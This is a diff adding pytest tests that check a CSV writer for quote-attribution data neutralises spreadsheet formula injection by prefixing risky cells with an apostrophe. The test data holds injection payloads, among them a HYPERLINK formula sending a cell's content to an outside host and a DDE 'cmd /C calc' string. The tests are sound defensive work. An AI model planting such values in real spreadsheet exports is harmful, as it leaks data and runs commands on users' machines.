@@ -61,3 +61,44 @@ def test_a_folder_that_does_not_exist_is_refused_with_the_path(tmp_path: Path) -
     with pytest.raises(LabelerError, match=f"cannot write {target}"):
         who_said_what_csv.write([], target)
     assert not target.parent.exists()
+
+
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t", "\r"], ids=["eq", "plus", "minus", "at", "tab", "cr"]
+)
+def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, start: str) -> None:
+    formula = f'{start}HYPERLINK("http://example.invalid/?"&A1,"open")'
+    row = AttributionRow(
+        span_id=1,
+        start=0,
+        cue=f"{start}said",
+        source=formula,
+        content=f"{start}1+1",
+        document_id=2,
+        document_title=f"{start}cmd|' /C calc'!A0",
+        annotator=f"{start}ana",
+    )
+    path = tmp_path / "out.csv"
+    who_said_what_csv.write([row], path)
+    with path.open(encoding="utf-8", newline="") as f:
+        header, cells = list(csv.reader(f))
+    written = dict(zip(header, cells, strict=True))
+    for column, value in [
+        ("source", formula),
+        ("cue", f"{start}said"),
+        ("content", f"{start}1+1"),
+        ("document_title", f"{start}cmd|' /C calc'!A0"),
+        ("annotator", f"{start}ana"),
+    ]:
+        assert written[column] == "'" + value, column
+    # Numbers and ordinary text are written as they are.
+    assert (written["document_id"], written["start"]) == ("2", "0")
+
+
+def test_ordinary_text_is_written_unchanged(tmp_path: Path) -> None:
+    row = AttributionRow(span_id=1, start=0, cue="said", source="O'Brien = mayor", content="")
+    path = tmp_path / "out.csv"
+    who_said_what_csv.write([row], path)
+    with path.open(encoding="utf-8", newline="") as f:
+        header, cells = list(csv.reader(f))
+    assert dict(zip(header, cells, strict=True))["source"] == "O'Brien = mayor"
